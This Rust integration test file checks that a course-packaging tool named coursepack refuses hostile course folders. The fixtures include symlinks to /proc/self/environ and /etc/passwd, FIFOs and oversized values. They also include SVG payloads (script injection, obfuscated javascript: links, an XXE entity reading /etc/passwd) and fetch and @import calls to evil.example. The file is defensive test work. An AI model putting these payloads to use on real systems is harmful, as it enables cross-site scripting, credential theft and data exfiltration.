//! Hostile course repositories (issue 13, the `check` and `build` side): a
//! course folder written by an attacker must not get a secret out of the
//! build machine or a script into a package, and must not hang, panic or
//! blow up `check` or `build`.
//!
//! Every case builds its fixture in a temporary folder: the README's example
//! course plus the hostile part. A canary secret is planted in a file outside
//! the course folder and in the environment of the child process; each case
//! asserts the exit code, the rule id and that the canary appears nowhere:
//! not on stdout or stderr, not in any entry of any zip, not in
//! `build-report.json`.

use crate::common;

use assert_cmd::Command;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::time::Duration;

const CANARY: &str = "CANARY-7f3c9e-DO-NOT-LEAK";
const CANARY_ENV: &str = "COURSEPACK_HOSTILE_CANARY";
/// A guard against hangs, not a performance assertion.
const TIMEOUT: Duration = Duration::from_secs(60);

struct Fixture {
    _tmp: tempfile::TempDir,
    /// The course folder (the README example, valid as written).
    course: PathBuf,
    /// A file outside the course folder holding the canary.
    secret: PathBuf,
    out: PathBuf,
}

fn fixture() -> Fixture {
    let tmp = tempfile::tempdir().expect("temp dir");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&outside).expect("mkdir");
    let secret = outside.join("secret.txt");
    // Reads as YAML, CSS, JSON-ish text: whatever parser gets it, it has the
    // canary on its first line.
    std::fs::write(
        &secret,
        format!("root:{CANARY}:0:0\n{{\"k\": \"{CANARY}\"}}\n"),
    )
    .expect("secret");
    let course = tmp.path().join("course");
    std::fs::create_dir_all(&course).expect("mkdir");
    common::write_course(&course, &common::readme_example());
    let out = tmp.path().join("dist");
    Fixture {
        _tmp: tmp,
        course,
        secret,
        out,
    }
}

impl Fixture {
    fn path(&self, rel: &str) -> PathBuf {
        let p = self.course.join(rel);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent).expect("mkdir");
        }
        p
    }

    fn link(&self, target: impl AsRef<Path>, rel: &str) {
        let p = self.path(rel);
        let _ = std::fs::remove_file(&p);
        std::os::unix::fs::symlink(target, p).expect("symlink");
    }

    fn fifo(&self, rel: &str) {
        let p = self.path(rel);
        let _ = std::fs::remove_file(&p);
        let ok = std::process::Command::new("mkfifo")
            .arg(&p)
            .status()
            .expect("mkfifo");
        assert!(ok.success(), "mkfifo");
    }

    fn write(&self, rel: &str, bytes: impl AsRef<[u8]>) {
        std::fs::write(self.path(rel), bytes).expect("write");
    }

    /// The README example with `from` replaced by `to` (once).
    fn edit(&self, from: &str, to: &str) {
        let yaml = common::readme_example();
        assert_eq!(yaml.matches(from).count(), 1, "`{from}` once");
        self.write("course.yaml", yaml.replacen(from, to, 1));
    }

    /// Runs coursepack with `args` (then the course folder, and for `build`
    /// `--out`), with the canary in its environment.
    fn run(&self, args: &[&str]) -> Run {
        let mut cmd = Command::cargo_bin("coursepack").expect("binary");
        cmd.args(args)
            .arg(&self.course)
            .env(CANARY_ENV, CANARY)
            .timeout(TIMEOUT);
        if args.first() == Some(&"build") {
            cmd.arg("--out").arg(&self.out);
        }
        let out = cmd.output().expect("run coursepack");
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(
            !stderr.contains("panicked"),
            "coursepack panicked: {stderr}"
        );
        let run = Run {
            code: out.status.code().unwrap_or(-1),
            stdout,
            stderr,
        };
        run.assert_no_canary();
        self.assert_no_canary_in_output();
        run
    }

    fn check(&self) -> Run {
        self.run(&["check", "--format", "json"])
    }

    /// Every file under --out, zips entry by entry (decompressed).
    fn assert_no_canary_in_output(&self) {
        let Ok(entries) = std::fs::read_dir(&self.out) else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let bytes = std::fs::read(&path).expect("read output");
            assert!(!contains(&bytes, CANARY), "canary in {}", path.display());
            if path.extension().is_some_and(|e| e == "zip") {
                let mut zip =
                    zip::ZipArchive::new(std::fs::File::open(&path).expect("open")).expect("a zip");
                for i in 0..zip.len() {
                    let mut f = zip.by_index(i).expect("entry");
                    let mut data = Vec::new();
                    f.read_to_end(&mut data).expect("read entry");
                    assert!(
                        !contains(&data, CANARY),
                        "canary in entry {i} of {}",
                        path.display()
                    );
                }
            }
        }
    }

    fn zips(&self) -> usize {
        std::fs::read_dir(&self.out).map_or(0, |d| {
            d.flatten()
                .filter(|e| e.path().extension().is_some_and(|x| x == "zip"))
                .count()
        })
    }
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn assert_no_canary(&self) {
        assert!(!self.stdout.contains(CANARY), "canary on stdout");
        assert!(!self.stderr.contains(CANARY), "canary on stderr");
    }

    /// The `check --format json` report.
    fn json(&self) -> serde_json::Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("no JSON ({e}): {}\n{}", self.stdout, self.stderr))
    }

    fn rules(&self) -> Vec<String> {
        self.json()["diagnostics"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|d| d["rule"].as_str().map(String::from))
                    .collect()
            })
            .unwrap_or_default()
    }

    /// `check` failed with exactly one diagnostic of `rule` among its errors.
    fn assert_refused(&self, rule: &str) {
        assert_eq!(self.code, 1, "{}\n{}", self.stdout, self.stderr);
        let rules = self.rules();
        assert!(rules.iter().any(|r| r == rule), "{rule} not in {rules:?}");
    }
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

/// check refuses with `rule`, and build refuses too and writes no package.
fn refused_by_check_and_build(f: &Fixture, rule: &str) {
    f.check().assert_refused(rule);
    let build = f.run(&["build"]);
    assert_eq!(build.code, 1, "{}", build.stderr);
    assert!(build.stderr.contains(rule), "{}", build.stderr);
    assert_eq!(f.zips(), 0, "a package was written");
}

// ---- defect 1: template overrides that leave the course folder --------------

#[test]
fn override_symlinked_to_a_secret_file_is_refused() {
    let f = fixture();
    f.link(&f.secret, "templates/player/player.css");
    refused_by_check_and_build(&f, "file-outside");
}

#[test]
fn override_symlinked_to_the_process_environment_is_refused() {
    let f = fixture();
    f.link("/proc/self/environ", "templates/player/player.css");
    refused_by_check_and_build(&f, "file-outside");
}

#[test]
fn i18n_override_with_a_relative_link_that_climbs_out_is_refused() {
    let f = fixture();
    f.link("../../../outside/secret.txt", "templates/i18n/en.json");
    refused_by_check_and_build(&f, "file-outside");
}

#[test]
fn override_behind_a_symlink_chain_is_refused() {
    let f = fixture();
    f.link(&f.secret, "links/c");
    f.link("c", "links/b");
    f.link("../links/b", "links/a");
    f.link("../../links/a", "templates/player/player.js");
    refused_by_check_and_build(&f, "file-outside");
}

#[test]
fn templates_folder_that_is_a_link_out_is_refused() {
    let f = fixture();
    let evil = f.secret.parent().expect("outside").join("player");
    std::fs::create_dir_all(&evil).expect("mkdir");
    std::fs::write(evil.join("player.css"), CANARY).expect("write");
    f.link(f.secret.parent().expect("outside"), "templates");
    refused_by_check_and_build(&f, "file-outside");
}

#[test]
fn override_that_is_a_fifo_is_refused_without_hanging() {
    let f = fixture();
    f.fifo("templates/player/partials/page.hbs");
    refused_by_check_and_build(&f, "file-special");
}

#[test]
fn override_symlinked_to_a_file_inside_the_folder_is_used() {
    let f = fixture();
    f.write("styles/style.css", "body { color: rebeccapurple }");
    f.link("../../styles/style.css", "templates/player/player.css");
    let check = f.check();
    assert_eq!(check.code, 0, "{}", check.stdout);
    assert_eq!(check.rules(), ["template-override"]);
    let build = f.run(&["build", "--target", "web", "--lang", "en"]);
    assert_eq!(build.code, 0, "{}", build.stderr);
    let zip = f.out.join("passwords-1.0.0-en-web.zip");
    let mut zip = zip::ZipArchive::new(std::fs::File::open(zip).expect("zip")).expect("zip");
    let mut css = String::new();
    zip.by_name("player/player.css")
        .expect("css")
        .read_to_string(&mut css)
        .expect("read");
    assert_eq!(css, "body { color: rebeccapurple }");
}

// ---- defect 6: overrides are code, and are listed as code --------------------

#[test]
fn overrides_are_listed_by_check_and_in_the_build_report_and_refused_on_request() {
    let f = fixture();
    let js = "window.addEventListener('load', () => fetch('https://evil.example/'))";
    f.write("templates/player/player.js", js);
    let en = std::fs::read_to_string(common::root().join("templates/i18n/en.json")).expect("en");
    f.write(
        "templates/i18n/en.json",
        en.replace("\"Next\"", "\"Onward\""),
    );
    let check = f.check();
    assert_eq!(check.code, 0, "{}", check.stdout);
    let report = check.json();
    let files: Vec<&str> = report["diagnostics"]
        .as_array()
        .expect("diagnostics")
        .iter()
        .filter(|d| d["rule"] == "template-override" && d["severity"] == "warning")
        .filter_map(|d| d["file"].as_str())
        .collect();
    assert_eq!(files.len(), 2, "{report:#}");
    assert!(
        files
            .iter()
            .any(|p| p.ends_with("templates/player/player.js"))
    );
    assert!(files.iter().any(|p| p.ends_with("templates/i18n/en.json")));

    // build --format json and build-report.json: path and SHA-256 of each.
    let build = f.run(&["build", "--target", "web", "--format", "json"]);
    assert_eq!(build.code, 0, "{}", build.stderr);
    let printed: serde_json::Value = serde_json::from_str(&build.stdout).expect("json");
    let written: serde_json::Value =
        serde_json::from_slice(&std::fs::read(f.out.join("build-report.json")).expect("report"))
            .expect("json");
    use sha2::Digest;
    let sha: String = sha2::Sha256::digest(js.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    for report in [&printed, &written] {
        let overrides = report["overrides"].as_array().expect("overrides");
        assert_eq!(overrides.len(), 2, "{report:#}");
        assert_eq!(overrides[1]["path"], "templates/player/player.js");
        assert_eq!(overrides[1]["sha256"], sha.as_str());
        assert_eq!(overrides[0]["path"], "templates/i18n/en.json");
    }

    // --no-overrides: check and build refuse them.
    let _ = std::fs::remove_dir_all(&f.out);
    let strict = f.run(&["check", "--no-overrides", "--format", "json"]);
    assert_eq!(strict.code, 1, "{}", strict.stdout);
    assert!(
        strict.json()["diagnostics"]
            .as_array()
            .expect("diagnostics")
            .iter()
            .all(|d| d["rule"] == "template-override" && d["severity"] == "error")
    );
    let build = f.run(&["build", "--no-overrides"]);
    assert_eq!(build.code, 1, "{}", build.stderr);
    assert!(build.stderr.contains("template-override"));
    assert_eq!(f.zips(), 0);
}

#[test]
fn a_course_without_overrides_has_an_empty_override_list() {
    let f = fixture();
    let build = f.run(&["build", "--target", "web", "--format", "json"]);
    assert_eq!(build.code, 0, "{}", build.stderr);
    let report: serde_json::Value = serde_json::from_str(&build.stdout).expect("json");
    assert_eq!(report["overrides"], serde_json::json!([]));
    // --no-overrides is no obstacle to a course that has none.
    assert_eq!(f.run(&["check", "--no-overrides"]).code, 0);
}

// ---- defect 8: course.yaml itself ------------------------------------------

#[test]
fn course_yaml_symlinked_out_is_refused_without_echoing_it() {
    for target in ["secret", "/proc/self/environ", "/etc/passwd"] {
        let f = fixture();
        let to = if target == "secret" {
            f.secret.clone()
        } else {
            PathBuf::from(target)
        };
        f.link(&to, "course.yaml");
        let check = f.check();
        check.assert_refused("file-outside");
        assert_eq!(check.rules().len(), 1);
        // Not a byte of /etc/passwd either.
        assert!(!check.stdout.contains("root:"), "{}", check.stdout);
        let text = f.run(&["check"]);
        assert_eq!(text.code, 1);
        assert!(!text.stderr.contains("root:"), "{}", text.stderr);
        let build = f.run(&["build"]);
        assert_eq!(build.code, 1, "{}", build.stderr);
        assert_eq!(f.zips(), 0);
    }
}

#[test]
fn course_yaml_that_is_a_fifo_or_a_folder_is_refused_without_hanging() {
    let f = fixture();
    f.fifo("course.yaml");
    f.check().assert_refused("file-special");
    let f = fixture();
    std::fs::remove_file(f.course.join("course.yaml")).expect("rm");
    std::fs::create_dir(f.course.join("course.yaml")).expect("mkdir");
    f.check().assert_refused("file-special");
}

#[test]
fn course_yaml_linked_inside_the_folder_is_read() {
    let f = fixture();
    std::fs::rename(f.course.join("course.yaml"), f.course.join("real.yaml")).expect("mv");
    f.link("real.yaml", "course.yaml");
    assert_eq!(f.check().code, 0);
}

// ---- defect 10: assets that are not regular files --------------------------

#[test]
fn asset_linked_to_a_fifo_inside_the_course_is_refused() {
    let f = fixture();
    f.fifo("assets/pipe");
    f.link("pipe", "assets/chart.png");
    refused_by_check_and_build(&f, "asset-special");
}

#[test]
fn asset_that_is_a_folder_is_refused() {
    let f = fixture();
    std::fs::remove_file(f.course.join("assets/chart.png")).expect("rm");
    std::fs::create_dir(f.course.join("assets/chart.png")).expect("mkdir");
    refused_by_check_and_build(&f, "asset-special");
}

#[test]
fn asset_linked_out_of_the_course_is_refused() {
    let f = fixture();
    f.link(&f.secret, "assets/chart.png");
    refused_by_check_and_build(&f, "asset-symlink");
    let f = fixture();
    f.link("/proc/self/environ", "assets/chart.png");
    refused_by_check_and_build(&f, "asset-symlink");
}

// ---- defect 4: languages -----------------------------------------------------

fn tags(n: usize) -> String {
    (0..n)
        .map(|i| {
            let b = |k: usize| char::from(b'a' + (k % 26) as u8);
            format!("{}{}{}", b(i / 676), b(i / 26), b(i))
        })
        .collect::<Vec<_>>()
        .join(", ")
}

#[test]
fn four_thousand_languages_are_refused_at_once() {
    let f = fixture();
    f.edit(
        "translations: [en]",
        &format!("translations: [en, {}]", tags(3_999)),
    );
    let started = std::time::Instant::now();
    let check = f.check();
    let took = started.elapsed();
    check.assert_refused("lang-too-many");
    // One diagnostic, not texts × languages.
    assert_eq!(check.rules(), ["lang-too-many"]);
    assert!(check.stdout.len() < 10_000, "{} bytes", check.stdout.len());
    // Generous: the README has the measured time.
    assert!(took < Duration::from_secs(5), "{took:?}");
    let text = f.run(&["check"]);
    assert!(text.stderr.len() < 10_000, "{} bytes", text.stderr.len());
}

#[test]
fn many_missing_translations_are_one_diagnostic_per_text() {
    let f = fixture();
    // 49 declared languages, none translated: one i18n-missing per text.
    f.edit(
        "translations: [en]",
        &format!("translations: [en, {}]", tags(48)),
    );
    let check = f.check();
    check.assert_refused("i18n-missing");
    let rules = check.rules();
    let texts = common::readme_example().matches("{nl:").count();
    assert!(rules.len() < 2 * texts, "{} diagnostics", rules.len());
}

// ---- defect 9: what the build and the standards refuse, check refuses ------

#[test]
fn a_title_over_scorm_1_2s_200_characters_is_refused() {
    let f = fixture();
    let long = "T".repeat(250);
    f.edit(
        "title: {nl: Sterke wachtwoorden,",
        &format!("title: {{nl: {long},"),
    );
    refused_by_check_and_build(&f, "limit-scorm12-title");
}

#[test]
fn characters_xml_forbids_are_refused() {
    for escape in ["\\e", "\\a", "\\b", "\\x01", "\\uFFFE", "\\uFFFF", "\\0"] {
        let f = fixture();
        f.edit(
            "title: {nl: Sterke wachtwoorden,",
            &format!("title: {{nl: \"Sterke{escape}wachtwoorden\","),
        );
        let check = f.check();
        check.assert_refused("text-char");
        let build = f.run(&["build"]);
        assert_eq!(build.code, 1, "{escape}: {}", build.stderr);
        assert!(!build.stderr.contains("coursepack bug"), "{}", build.stderr);
    }
}

#[test]
fn a_fifteen_megabyte_title_is_refused_cheaply() {
    let f = fixture();
    let huge = "x".repeat(15 * 1024 * 1024);
    f.edit(
        "title: {nl: Sterke wachtwoorden,",
        &format!("title: {{nl: {huge},"),
    );
    // Under a 1 GiB address-space limit (a guard, like tests/hostile.rs).
    let bin = assert_cmd::cargo::cargo_bin("coursepack");
    let out = Command::new("bash")
        .arg("-c")
        .arg("ulimit -v 1048576 && exec \"$0\" check \"$1\" --format json")
        .arg(&bin)
        .arg(&f.course)
        .timeout(TIMEOUT)
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("limit-scorm12-title"), "{stdout}");
    // The title is not echoed back.
    assert!(stdout.len() < 20_000, "{} bytes of output", stdout.len());
}

// ---- defect 5: SVG assets and magic bytes ---------------------------------------

const SVG_NS: &str =
    "xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";

fn with_svg(body: &str) -> Fixture {
    let f = fixture();
    f.write(
        "assets/chart.svg",
        format!("<svg {SVG_NS} viewBox=\"0 0 10 10\">\n  {body}\n</svg>\n"),
    );
    f.edit("src: assets/chart.png", "src: assets/chart.svg");
    f
}

#[test]
fn svg_with_active_content_is_refused_with_its_location() {
    let cases = [
        "<script>alert(document.cookie)</script>",
        "<ScRiPt>alert(1)</ScRiPt>",
        "<rect width=\"5\" height=\"5\" onload=\"alert(1)\"/>",
        "<rect width=\"5\" height=\"5\" OnMouseOver=\"alert(1)\"/>",
        "<foreignObject width=\"5\" height=\"5\"><p xmlns=\"http://www.w3.org/1999/xhtml\">x</p></foreignObject>",
        "<a href=\"javascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<a xlink:href=\"JaVaScRiPt:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<a href=\"&#106;avascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<a href=\"&#x6A;&#x61;vascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<a href=\"java&#x09;script:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<a href=\" &#x0B; javascript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>",
        "<image href=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\"/>",
        "<image href=\"https://evil.example/track.png\"/>",
        "<use href=\"other.svg#x\"/>",
        "<use xlink:href=\"file:///etc/passwd#x\"/>",
        "<rect style=\"fill: url(https://evil.example/x)\"/>",
        "<style>@import url(\"https://evil.example/x.css\");</style>",
        "<style>rect { fill: url( 'other.svg#g' ) }</style>",
        "<set attributeName=\"href\" to=\"javascript:alert(1)\"/>",
    ];
    for body in cases {
        let f = with_svg(body);
        let check = f.check();
        check.assert_refused("asset-svg-active-content");
        let d = check.json()["diagnostics"]
            .as_array()
            .expect("diagnostics")
            .iter()
            .find(|d| d["rule"] == "asset-svg-active-content")
            .cloned()
            .expect("diagnostic");
        // Located in the SVG: the element on its line 2.
        assert!(
            d["file"]
                .as_str()
                .expect("file")
                .ends_with("assets/chart.svg"),
            "{d}"
        );
        assert_eq!(d["line"], 2, "{body}: {d}");
        let build = f.run(&["build"]);
        assert_eq!(build.code, 1, "{body}: {}", build.stderr);
        assert_eq!(f.zips(), 0);
    }
}

#[test]
fn svg_with_a_dtd_is_refused() {
    let f = fixture();
    f.write(
        "assets/chart.svg",
        format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY s SYSTEM \"file:///etc/passwd\">]>\n<svg {SVG_NS}>&s;</svg>\n"
        ),
    );
    f.edit("src: assets/chart.png", "src: assets/chart.svg");
    f.check().assert_refused("asset-svg-active-content");
}

#[test]
fn plain_svg_pictures_pass() {
    let f = with_svg(
        "<defs><linearGradient id=\"g\"><stop offset=\"0\"/></linearGradient></defs><style>.a { fill: url(#g) }</style><rect class=\"a\" width=\"5\" height=\"5\" style=\"fill: url('#g')\"/><use href=\"#g\"/><text>javascript: is just text here</text>",
    );
    let check = f.check();
    assert_eq!(check.code, 0, "{}", check.stdout);
    // The real course's and the sampler's SVGs too.
    for dir in ["course", "src/render/testdata/sampler"] {
        let out = Command::cargo_bin("coursepack")
            .expect("binary")
            .args(["check", "--format", "json"])
            .arg(common::root().join(dir))
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(0), "{dir}");
    }
}

#[test]
fn media_whose_bytes_do_not_match_the_extension_are_refused() {
    let f = fixture();
    f.write("assets/chart.png", "<html><script>alert(1)</script></html>");
    refused_by_check_and_build(&f, "asset-type-mismatch");
    let f = fixture();
    f.write("assets/clip.mp4", "<script>alert(1)</script>");
    f.write("assets/clip.vtt", "WEBVTT\n");
    f.edit(
        "          - callout:\n",
        "          - video:\n              src: assets/clip.mp4\n              title: {nl: Film, en: Clip}\n              captions: {nl: assets/clip.vtt, en: assets/clip.vtt}\n          - callout:\n",
    );
    refused_by_check_and_build(&f, "asset-type-mismatch");
}

#[test]
fn huge_values_are_not_echoed_back_whole() {
    let huge = "x".repeat(15 * 1024 * 1024);
    for (from, to) in [
        ("id: passwords", format!("id: {huge}")),
        ("pass_mark: 70", format!("pass_mark: \"{huge}\"")),
        ("src: assets/chart.png", format!("src: assets/{huge}.png")),
    ] {
        let f = fixture();
        f.edit(from, &to);
        for args in [&["check", "--format", "json"][..], &["check"][..]] {
            let run = f.run(args);
            assert_eq!(run.code, 1, "{from}");
            let size = run.stdout.len() + run.stderr.len();
            assert!(size < 50_000, "{from}: {size} bytes of output");
        }
    }
}
